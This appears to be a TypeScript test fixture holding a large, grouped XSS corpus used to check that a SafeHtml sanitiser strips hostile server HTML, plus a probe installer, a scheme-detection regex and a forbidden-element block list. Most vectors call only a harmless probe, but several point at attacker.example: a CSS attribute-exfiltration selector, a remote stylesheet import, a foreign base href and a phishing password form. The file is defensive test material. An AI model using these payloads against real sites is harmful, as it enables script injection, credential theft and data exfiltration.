/**
 * The XSS corpus every server-HTML test feeds through `SafeHtml`: the story test in Chromium now, the
 * popups', notices', messages' and events' journeys (apps/site/e2e, through the mock server) later.
 *
 * The probe convention: a vector that runs script calls `window.__xssProbe(name)` with its own entry's
 * name; a vector that would run inside a nested browsing context (an iframe's `srcdoc`, a `javascript:` or
 * `data:` frame, an object or embed) cannot reach the page's globals, so it posts the string
 * `__xssProbe:<name>` to its parent instead. `installXssProbe` listens for both. Vectors whose only effect
 * would be navigation (`<meta http-equiv=refresh>`, `<base href>`, links with `javascript:`) do nothing
 * until a click or a redirect, so tests check them structurally (no such element or URL survives).
 */

/** The families of vectors, so a failure names what kind of hole opened. */
export const xssVectorGroups = [
  'event-handler',
  'javascript-url',
  'svg-mathml-mutation',
  'srcdoc-base-meta',
  'css',
  'template-comment',
  'form',
  'object-embed-link',
  'dom-clobbering',
  'malformed',
  'encoding',
] as const;

export type XssVectorGroup = (typeof xssVectorGroups)[number];

export interface XssVector {
  /** Unique, [a-z0-9-] only: it is also the argument the vector passes to the probe. */
  name: string;
  group: XssVectorGroup;
  /** The markup as a hostile server would send it. */
  html: string;
}

/** The global the vectors call; tests install it before rendering. */
export const XSS_PROBE_GLOBAL = '__xssProbe';
/** The prefix of the message a vector posts from a nested browsing context. */
export const XSS_PROBE_MESSAGE_PREFIX = `${XSS_PROBE_GLOBAL}:`;

declare global {
  interface Window {
    __xssProbe?: (name: string) => void;
  }
}

/** A script statement that reports `name` from the page itself. */
const probe = (name: string) => `${XSS_PROBE_GLOBAL}('${name}')`;
/** A script statement that reports `name` from a frame, object or embed to the page around it. */
const nestedProbe = (name: string) => `parent.postMessage('${XSS_PROBE_MESSAGE_PREFIX}${name}','*')`;
/** A whole HTML document that reports `name` from a nested context. */
const nestedDocument = (name: string) => `<script>${nestedProbe(name)}</script>`;

const base64 = (text: string) => btoa(text);
const decimalEntities = (text: string, { semicolon = true, pad = 0 } = {}) =>
  [...text].map((char) => `&#${String(char.charCodeAt(0)).padStart(pad, '0')}${semicolon ? ';' : ''}`).join('');
const hexEntities = (text: string, { semicolon = true } = {}) =>
  [...text].map((char) => `&#x${char.charCodeAt(0).toString(16)}${semicolon ? ';' : ''}`).join('');

/** `javascript:` plus the probe call, the URL every scheme vector encodes. */
const jsUrl = (name: string) => `javascript:${probe(name)}`;

type Entry = readonly [name: string, html: (name: string) => string];

const group = (name: XssVectorGroup, entries: readonly Entry[]): XssVector[] =>
  entries.map(([vectorName, html]) => ({ name: vectorName, group: name, html: html(vectorName) }));

const eventHandlers: readonly Entry[] = [
  ['img-onerror', (n) => `<img src="x" onerror="${probe(n)}">`],
  ['img-onerror-unquoted', (n) => `<img src=x onerror=${probe(n)}>`],
  ['img-onerror-uppercase', (n) => `<IMG SRC=x ONERROR="${probe(n)}">`],
  ['img-onerror-slash-separators', (n) => `<img/src=x/onerror="${probe(n)}">`],
  ['img-onerror-newline-separator', (n) => `<img src=x\nonerror="${probe(n)}">`],
  ['img-srcset-onerror', (n) => `<img srcset="x" onerror="${probe(n)}">`],
  ['img-empty-src-onerror', (n) => `<img src onerror="${probe(n)}">`],
  ['image-tag-onerror', (n) => `<image src=x onerror="${probe(n)}">`],
  ['picture-img-onerror', (n) => `<picture><source srcset="x"><img src="x" onerror="${probe(n)}"></picture>`],
  ['svg-onload', (n) => `<svg onload="${probe(n)}"></svg>`],
  ['svg-slash-onload', (n) => `<svg/onload=${probe(n)}>`],
  ['svg-image-onerror', (n) => `<svg><image href="x" onerror="${probe(n)}"></image></svg>`],
  ['body-onload', (n) => `<body onload="${probe(n)}">`],
  ['body-onpageshow', (n) => `<body onpageshow="${probe(n)}">`],
  ['frameset-onload', (n) => `<frameset onload="${probe(n)}">`],
  ['input-onfocus-autofocus', (n) => `<input onfocus="${probe(n)}" autofocus>`],
  ['input-image-onerror', (n) => `<input type="image" src="x" onerror="${probe(n)}">`],
  ['details-ontoggle-open', (n) => `<details open ontoggle="${probe(n)}"><summary>x</summary></details>`],
  ['video-source-onerror', (n) => `<video><source onerror="${probe(n)}"></video>`],
  ['video-onerror', (n) => `<video src="x" onerror="${probe(n)}"></video>`],
  ['audio-onerror', (n) => `<audio src="x" onerror="${probe(n)}"></audio>`],
  ['audio-source-onerror', (n) => `<audio><source src="x" onerror="${probe(n)}"></audio>`],
  ['marquee-onstart', (n) => `<marquee onstart="${probe(n)}">x</marquee>`],
  ['iframe-onload', (n) => `<iframe onload="${probe(n)}"></iframe>`],
  ['object-onerror', (n) => `<object data="x" onerror="${probe(n)}"></object>`],
  ['embed-onload', (n) => `<embed src="x" onload="${probe(n)}">`],
  ['select-onfocus-autofocus', (n) => `<select autofocus onfocus="${probe(n)}"><option>x</option></select>`],
  ['textarea-onfocus-autofocus', (n) => `<textarea autofocus onfocus="${probe(n)}"></textarea>`],
  ['keygen-onfocus-autofocus', (n) => `<keygen autofocus onfocus="${probe(n)}">`],
  ['button-onfocus-autofocus', (n) => `<button autofocus onfocus="${probe(n)}">x</button>`],
  ['div-tabindex-onfocus-autofocus', (n) => `<div tabindex="0" autofocus onfocus="${probe(n)}">x</div>`],
  ['a-onmouseover', (n) => `<a onmouseover="${probe(n)}">x</a>`],
  ['div-onpointerenter', (n) => `<div onpointerenter="${probe(n)}">x</div>`],
  ['span-onclick', (n) => `<span onclick="${probe(n)}">x</span>`],
  ['p-onanimationstart', (n) => `<style>@keyframes xss{}</style><p style="animation-name:xss" onanimationstart="${probe(n)}">x</p>`],
  ['div-ontransitionrun', (n) => `<div style="transition:color 1ms" ontransitionrun="${probe(n)}">x</div>`],
  ['style-onload', (n) => `<style onload="${probe(n)}"></style>`],
  ['link-onerror', (n) => `<link rel="stylesheet" href="x" onerror="${probe(n)}">`],
  ['table-onpointerover', (n) => `<table onpointerover="${probe(n)}"><tr><td>x</td></tr></table>`],
  ['h1-onauxclick', (n) => `<h1 onauxclick="${probe(n)}">x</h1>`],
  ['svg-animate-onbegin', (n) => `<svg><animate onbegin="${probe(n)}" attributeName="x" dur="1s"></animate></svg>`],
  ['svg-discard-onbegin', (n) => `<svg><discard onbegin="${probe(n)}"></discard></svg>`],
  ['script-tag', (n) => `<script>${probe(n)}</script>`],
  ['script-uppercase', (n) => `<SCRIPT>${probe(n)}</SCRIPT>`],
  ['script-src-data', (n) => `<script src="data:,${probe(n)}"></script>`],
];

const javascriptUrls: readonly Entry[] = [
  ['a-href-javascript', (n) => `<a href="${jsUrl(n)}">x</a>`],
  ['a-href-javascript-mixed-case', (n) => `<a href="JaVaScRiPt:${probe(n)}">x</a>`],
  ['a-href-javascript-decimal-entities', (n) => `<a href="${decimalEntities(jsUrl(n))}">x</a>`],
  ['a-href-javascript-decimal-no-semicolons', (n) => `<a href="${decimalEntities(jsUrl(n), { semicolon: false })}">x</a>`],
  ['a-href-javascript-decimal-zero-padded', (n) => `<a href="${decimalEntities(jsUrl(n), { semicolon: false, pad: 7 })}">x</a>`],
  ['a-href-javascript-hex-entities', (n) => `<a href="${hexEntities(jsUrl(n))}">x</a>`],
  ['a-href-javascript-hex-no-semicolons', (n) => `<a href="${hexEntities(jsUrl(n), { semicolon: false })}">x</a>`],
  ['a-href-javascript-colon-entity', (n) => `<a href="javascript&colon;${probe(n)}">x</a>`],
  ['a-href-javascript-colon-decimal', (n) => `<a href="javascript&#58;${probe(n)}">x</a>`],
  ['a-href-javascript-tab', (n) => `<a href="jav\tascript:${probe(n)}">x</a>`],
  ['a-href-javascript-newline', (n) => `<a href="jav\nascript:${probe(n)}">x</a>`],
  ['a-href-javascript-carriage-return', (n) => `<a href="jav\rascript:${probe(n)}">x</a>`],
  ['a-href-javascript-tab-entity', (n) => `<a href="jav&#x09;ascript:${probe(n)}">x</a>`],
  ['a-href-javascript-newline-entity', (n) => `<a href="jav&#x0A;ascript:${probe(n)}">x</a>`],
  ['a-href-javascript-named-tab', (n) => `<a href="jav&Tab;ascript:${probe(n)}">x</a>`],
  ['a-href-javascript-named-newline', (n) => `<a href="jav&NewLine;ascript:${probe(n)}">x</a>`],
  ['a-href-javascript-leading-spaces', (n) => `<a href="   ${jsUrl(n)}">x</a>`],
  ['a-href-javascript-leading-control-char', (n) => `<a href="\u0001${jsUrl(n)}">x</a>`],
  ['a-href-javascript-leading-entity-control', (n) => `<a href="&#14;${jsUrl(n)}">x</a>`],
  ['a-href-javascript-leading-nbsp', (n) => `<a href="&#xA0;${jsUrl(n)}">x</a>`],
  ['a-href-javascript-comment-newline', (n) => `<a href="javascript://%0a${probe(n)}">x</a>`],
  ['a-href-javascript-unquoted', (n) => `<a href=javascript:${probe(n)}>x</a>`],
  ['a-href-vbscript', (n) => `<a href="vbscript:${probe(n)}">x</a>`],
  ['a-href-data-html-base64', (n) => `<a href="data:text/html;base64,${base64(nestedDocument(n))}">x</a>`],
  ['a-href-data-html', (n) => `<a href="data:text/html,${nestedDocument(n)}">x</a>`],
  ['area-href-javascript', (n) => `<map name="m"><area shape="rect" coords="0,0,10,10" href="${jsUrl(n)}"></map>`],
  ['img-src-javascript', (n) => `<img src="${jsUrl(n)}">`],
  ['img-src-data-svg', (n) => `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${nestedProbe(n)}"/>`)}">`],
  ['iframe-src-javascript', (n) => `<iframe src="javascript:${nestedProbe(n)}"></iframe>`],
  ['iframe-src-data-html', (n) => `<iframe src="data:text/html;base64,${base64(nestedDocument(n))}"></iframe>`],
  ['embed-src-javascript', (n) => `<embed src="${jsUrl(n)}">`],
  ['object-data-javascript', (n) => `<object data="${jsUrl(n)}"></object>`],
  ['video-poster-javascript', (n) => `<video poster="${jsUrl(n)}"></video>`],
  ['table-background-javascript', (n) => `<table background="${jsUrl(n)}"><tr><td>x</td></tr></table>`],
];

const svgAndMathml: readonly Entry[] = [
  ['svg-p-style-img', (n) => `<svg><p><style><img src="x" onerror="${probe(n)}"></style></p></svg>`],
  ['svg-close-p-style-attribute', (n) => `<svg></p><style><a id="</style><img src=x onerror=${probe(n)}>"></a></style></svg>`],
  ['svg-style-img', (n) => `<svg><style><img src="x" onerror="${probe(n)}"></style></svg>`],
  ['math-style-img', (n) => `<math><style><img src="x" onerror="${probe(n)}"></style></math>`],
  ['math-mtext-table-mglyph-style-img', (n) => `<math><mtext><table><mglyph><style><img src="x" onerror="${probe(n)}"></style></mglyph></table></mtext></math>`],
  ['math-mtext-table-mglyph-style-comment', (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${probe(n)}&gt;">`],
  ['form-math-mtext-mglyph-style', (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${probe(n)}">`],
  ['math-mi-mglyph-svg-textarea', (n) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${probe(n)} src=1>">`],
  ['math-annotation-xml-html', (n) => `<math><annotation-xml encoding="text/html"><img src="x" onerror="${probe(n)}"></annotation-xml></math>`],
  ['noscript-title-breakout', (n) => `<noscript><p title="</noscript><img src=x onerror=${probe(n)}>"></p></noscript>`],
  ['title-breakout', (n) => `<title><a title="</title><img src=x onerror=${probe(n)}>"></a></title>`],
  ['textarea-breakout', (n) => `<textarea><a title="</textarea><img src=x onerror=${probe(n)}>"></a></textarea>`],
  ['xmp-breakout', (n) => `<xmp><p title="</xmp><img src=x onerror=${probe(n)}>"></p></xmp>`],
  ['noembed-breakout', (n) => `<noembed><p title="</noembed><img src=x onerror=${probe(n)}>"></p></noembed>`],
  ['noframes-breakout', (n) => `<noframes><p title="</noframes><img src=x onerror=${probe(n)}>"></p></noframes>`],
  ['iframe-content-breakout', (n) => `<iframe><p title="</iframe><img src=x onerror=${probe(n)}>"></p></iframe>`],
  ['style-attribute-breakout', (n) => `<style><img title="</style><img src=x onerror=${probe(n)}>"></style>`],
  ['svg-a-xlink-href-javascript', (n) => `<svg><a xlink:href="${jsUrl(n)}"><text x="20" y="20">x</text></a></svg>`],
  ['svg-a-href-javascript', (n) => `<svg><a href="${jsUrl(n)}"><rect width="10" height="10"></rect></a></svg>`],
  ['svg-animate-href-javascript', (n) => `<svg><a><animate attributeName="href" values="${jsUrl(n)}"></animate><text x="20" y="20">x</text></a></svg>`],
  ['svg-set-href-javascript', (n) => `<svg><a><set attributeName="href" to="${jsUrl(n)}"></set><text x="20" y="20">x</text></a></svg>`],
  ['svg-set-onbegin', (n) => `<svg><set attributeName="x" to="1" onbegin="${probe(n)}"></set></svg>`],
  ['svg-use-href-data', (n) => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${nestedProbe(n)}"/></svg>`)}#x"></use></svg>`],
  ['svg-script', (n) => `<svg><script>${probe(n)}</script></svg>`],
  ['svg-script-href-data', (n) => `<svg><script href="data:,${probe(n)}"></script></svg>`],
  ['svg-foreignobject-img', (n) => `<svg><foreignObject><img src="x" onerror="${probe(n)}"></foreignObject></svg>`],
  ['svg-desc-img', (n) => `<svg><desc><img src="x" onerror="${probe(n)}"></desc></svg>`],
  ['svg-cdata-img', (n) => `<svg><![CDATA[><img src=x onerror=${probe(n)}>]]></svg>`],
  ['math-href-javascript', (n) => `<math href="${jsUrl(n)}"><mi>x</mi></math>`],
  ['math-maction-xlink-href', (n) => `<math><maction actiontype="statusline" xlink:href="${jsUrl(n)}"><mtext>x</mtext></maction></math>`],
];

const srcdocBaseMeta: readonly Entry[] = [
  ['iframe-srcdoc-script', (n) => `<iframe srcdoc="${nestedDocument(n).replace(/"/g, '&quot;')}"></iframe>`],
  ['iframe-srcdoc-entity-img', (n) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${nestedProbe(n).replace(/'/g, '&#39;')}&quot;&gt;"></iframe>`],
  ['iframe-srcdoc-in-p', (n) => `<p><iframe srcdoc="<svg onload=${nestedProbe(n)}>"></iframe></p>`],
  ['base-href-javascript', (n) => `<base href="javascript:${probe(n)}//"><a href="/notice">x</a>`],
  ['base-href-foreign', () => `<base href="https://attacker.example/"><a href="/login">x</a>`],
  ['base-target', () => `<base target="_top"><a href="/notice">x</a>`],
  ['meta-refresh-javascript', (n) => `<meta http-equiv="refresh" content="0;url=${jsUrl(n)}">`],
  ['meta-refresh-data', (n) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(nestedDocument(n))}">`],
  ['meta-refresh-foreign', () => `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`],
  ['meta-set-cookie', () => `<meta http-equiv="set-cookie" content="session=stolen">`],
  ['meta-csp-override', () => `<meta http-equiv="Content-Security-Policy" content="script-src *">`],
];

const css: readonly Entry[] = [
  ['style-attr-url-javascript', (n) => `<div style="background-image:url(${jsUrl(n)})">x</div>`],
  ['style-attr-url-javascript-quoted', (n) => `<div style="background:url(&quot;${jsUrl(n)}&quot;)">x</div>`],
  ['style-attr-url-entity-escaped', (n) => `<div style="background:u&#114;l(${jsUrl(n)})">x</div>`],
  ['style-attr-url-css-escaped', (n) => `<div style="background:\\75\\72\\6c(${jsUrl(n)})">x</div>`],
  ['style-attr-expression', (n) => `<div style="width:expression(${probe(n)})">x</div>`],
  ['style-attr-expression-comment', (n) => `<div style="width:exp/**/ression(${probe(n)})">x</div>`],
  ['style-attr-behavior', () => `<div style="behavior:url(xss.htc)">x</div>`],
  ['style-attr-moz-binding', () => `<div style="-moz-binding:url(xss.xml#xss)">x</div>`],
  ['style-attr-url-data-svg', (n) => `<p style="background:url(data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${nestedProbe(n)}"/>`)})">x</p>`],
  ['style-attr-import-breakout', (n) => `<div style="x:expression(${probe(n)});background:url('x')">x</div>`],
  ['style-tag-import-javascript', (n) => `<style>@import '${jsUrl(n)}';</style>`],
  ['style-tag-url-javascript', (n) => `<style>p{background:url("${jsUrl(n)}")}</style><p>x</p>`],
  ['style-tag-expression', (n) => `<style>*{x:expression(${probe(n)})}</style>`],
  ['style-tag-import-remote', () => `<style>@import url(https://attacker.example/steal.css);</style>`],
  ['style-tag-attribute-exfiltration', () => `<style>input[value^=a]{background:url(https://attacker.example/a)}</style>`],
  ['link-stylesheet-javascript', (n) => `<link rel="stylesheet" href="${jsUrl(n)}">`],
  ['style-tag-animation-handler', (n) => `<style>@keyframes xssb{}</style><div style="animation:xssb 1ms" onanimationend="${probe(n)}">x</div>`],
];

const templateAndComment: readonly Entry[] = [
  ['template-img', (n) => `<template><img src="x" onerror="${probe(n)}"></template>`],
  ['template-script', (n) => `<template><script>${probe(n)}</script></template>`],
  ['template-nested', (n) => `<template><template><img src="x" onerror="${probe(n)}"></template></template>`],
  ['template-shadowroot', (n) => `<div><template shadowrootmode="open"><img src="x" onerror="${probe(n)}"></template></div>`],
  ['comment-empty-open', (n) => `<!--><img src="x" onerror="${probe(n)}">-->`],
  ['comment-bang-close', (n) => `<!-- --!><img src="x" onerror="${probe(n)}"> -->`],
  ['comment-in-attribute', (n) => `<!--<img src="--><img src=x onerror=${probe(n)}//">`],
  ['comment-dash-dash-gt', (n) => `<!----><img src="x" onerror="${probe(n)}"><!---->`],
  ['comment-conditional', (n) => `<!--[if gte IE 4]><script>${probe(n)}</script><![endif]-->`],
  ['bogus-comment-question', (n) => `<? foo="><img src=x onerror=${probe(n)}>">`],
  ['bogus-comment-cdata', (n) => `<![CDATA[><img src=x onerror=${probe(n)}>]]>`],
  ['bogus-comment-end-tag', (n) => `</ x="><img src=x onerror=${probe(n)}>">`],
  ['processing-instruction', (n) => `<?xml version="1.0"?><img src="x" onerror="${probe(n)}">`],
];

const forms: readonly Entry[] = [
  ['form-action-javascript', (n) => `<form action="${jsUrl(n)}"><input type="submit" value="x"></form>`],
  ['form-button-formaction', (n) => `<form><button formaction="${jsUrl(n)}">x</button></form>`],
  ['button-form-attribute-formaction', (n) => `<form id="xssform"></form><button form="xssform" formaction="${jsUrl(n)}">x</button>`],
  ['input-submit-formaction', (n) => `<form><input type="submit" formaction="${jsUrl(n)}" value="x"></form>`],
  ['isindex-action', (n) => `<isindex action="${jsUrl(n)}" type="submit">`],
  ['isindex-image-onerror', (n) => `<isindex type="image" src="x" onerror="${probe(n)}">`],
  ['form-onsubmit', (n) => `<form onsubmit="${probe(n)}"><button>x</button></form>`],
  ['button-onclick', (n) => `<button onclick="${probe(n)}">x</button>`],
  ['form-password-field', () => `<form action="https://attacker.example/"><input type="password" name="pw"><button>로그인</button></form>`],
];

const objectEmbedLink: readonly Entry[] = [
  ['object-data-html-base64', (n) => `<object data="data:text/html;base64,${base64(nestedDocument(n))}"></object>`],
  ['object-type-html', (n) => `<object type="text/html" data="data:text/html,${encodeURIComponent(nestedDocument(n))}"></object>`],
  ['object-param', () => `<object><param name="src" value="https://attacker.example/x.swf"></object>`],
  ['embed-src-data-svg', (n) => `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${nestedProbe(n)}"/>`)}">`],
  ['embed-src-data-html', (n) => `<embed type="text/html" src="data:text/html;base64,${base64(nestedDocument(n))}">`],
  ['link-import', (n) => `<link rel="import" href="data:text/html,${encodeURIComponent(nestedDocument(n))}">`],
  ['link-preload-onload', (n) => `<link rel="preload" as="style" href="x" onload="${probe(n)}" onerror="${probe(n)}">`],
  ['applet-code', () => `<applet code="Xss.class" codebase="https://attacker.example/"></applet>`],
  ['portal-src', (n) => `<portal src="${jsUrl(n)}"></portal>`],
];

const domClobbering: readonly Entry[] = [
  ['img-name-cookie', () => `<img name="cookie">`],
  ['form-id-body', () => `<form id="body"></form>`],
  ['img-name-getelementbyid', () => `<img name="getElementById">`],
  ['form-name-location', () => `<form name="location"></form>`],
  ['a-id-default-view', () => `<a id="defaultView" href="#x">x</a>`],
  ['form-input-id-attributes', () => `<form id="xssclobber"><input id="attributes"></form>`],
  ['img-id-proto', () => `<img id="__proto__">`],
  ['a-name-currentscript', () => `<a name="currentScript" href="https://attacker.example/x.js">x</a>`],
  ['class-collision', () => `<p class="ThemeRoot dialog" id="root">x</p>`],
];

const malformed: readonly Entry[] = [
  ['unclosed-img-at-end', (n) => `<p>x</p><img src=x onerror=${probe(n)}`],
  ['double-less-than', (n) => `<<img src="x" onerror="${probe(n)}">`],
  ['quotes-in-tag', (n) => `<img """><script>${probe(n)}</script>">`],
  ['split-script-tags', (n) => `<scr<script>ipt>${probe(n)}</scr</script>ipt>`],
  ['tag-inside-tag', (n) => `<div <img src=x onerror=${probe(n)}>>x</div>`],
  ['unclosed-quote-attribute', (n) => `<img src="x\` onerror=${probe(n)}>`],
  ['unclosed-a-javascript', (n) => `<a href="${jsUrl(n)}"`],
  ['trailing-slash-handler', (n) => `<img src=x onerror=${probe(n)}//`],
  ['self-closing-div', (n) => `<div/><img src="x" onerror="${probe(n)}"/>`],
  ['nested-quotes-handler', (n) => `<img src='x' onerror='${probe(n).replace(/'/g, '&#39;')}'>`],
  ['backtick-attribute', (n) => `<img src=\`x\` onerror=${probe(n)}>`],
  ['plaintext-tag', (n) => `<plaintext><img src=x onerror=${probe(n)}>`],
];

const encodings: readonly Entry[] = [
  ['utf7-script', (n) => `+ADw-script+AD4-${probe(n)}+ADw-/script+AD4-`],
  ['utf7-meta-charset', (n) => `<meta charset="UTF-7">+ADw-img src=x onerror=${probe(n)}+AD4-`],
  ['null-byte-in-tag-name', (n) => `<scr\u0000ipt>${probe(n)}</scr\u0000ipt>`],
  ['null-byte-in-handler-name', (n) => `<img src=x on\u0000error="${probe(n)}">`],
  ['null-byte-in-scheme', (n) => `<a href="java\u0000script:${probe(n)}">x</a>`],
  ['null-byte-before-img', (n) => `\u0000<img src="x" onerror="${probe(n)}">`],
  ['fullwidth-brackets', (n) => `\uFF1Cimg src=x onerror=${probe(n)}\uFF1E`],
  ['line-separator-in-handler', (n) => `<img src=x onerror="\u2028${probe(n)}">`],
  ['percent-encoded-scheme', (n) => `<a href="%6A%61%76%61%73%63%72%69%70%74:${probe(n)}">x</a>`],
];

/** Every vector, named and grouped; at least 120 of them. */
export const xssCorpus: readonly XssVector[] = [
  ...group('event-handler', eventHandlers),
  ...group('javascript-url', javascriptUrls),
  ...group('svg-mathml-mutation', svgAndMathml),
  ...group('srcdoc-base-meta', srcdocBaseMeta),
  ...group('css', css),
  ...group('template-comment', templateAndComment),
  ...group('form', forms),
  ...group('object-embed-link', objectEmbedLink),
  ...group('dom-clobbering', domClobbering),
  ...group('malformed', malformed),
  ...group('encoding', encodings),
];

export interface XssProbe {
  /** The names of the vectors that ran, in order. */
  readonly calls: readonly string[];
  /** Removes the global and the message listener. */
  uninstall(): void;
}

/** Installs `window.__xssProbe` and the nested-context listener on `target`, recording every call. */
export function installXssProbe(target: Window = window): XssProbe {
  const calls: string[] = [];
  const onMessage = (event: MessageEvent) => {
    if (typeof event.data === 'string' && event.data.startsWith(XSS_PROBE_MESSAGE_PREFIX)) {
      calls.push(event.data.slice(XSS_PROBE_MESSAGE_PREFIX.length));
    }
  };
  target.__xssProbe = (name: string) => {
    calls.push(name);
  };
  target.addEventListener('message', onMessage);
  return {
    calls,
    uninstall() {
      delete target.__xssProbe;
      target.removeEventListener('message', onMessage);
    },
  };
}

/** URL-bearing attributes whose value must never carry a script or data scheme. */
export const urlAttributes = ['href', 'src', 'action', 'formaction', 'xlink:href', 'poster', 'background', 'data', 'srcset'] as const;

/** A script, VBScript or data scheme after the control characters and spaces a browser ignores. */
export const scriptOrDataUrl = /^(?:javascript|vbscript|data):/i;

/** The value as a browser reads its scheme: leading and embedded control characters and spaces removed. */
export const schemeOf = (value: string) => value.replace(/[\u0000-\u0020\u00A0\u1680\u180E\u2000-\u2029\u205F\u3000]/g, ''); // eslint-disable-line no-control-regex -- control characters are what a browser skips in a scheme

/** Elements that must never come out of a sanitiser fed server HTML. */
export const forbiddenElements = ['script', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'style', 'form', 'svg', 'math', 'template', 'input', 'button', 'textarea', 'select', 'frame', 'frameset', 'applet', 'portal', 'noscript'] as const;
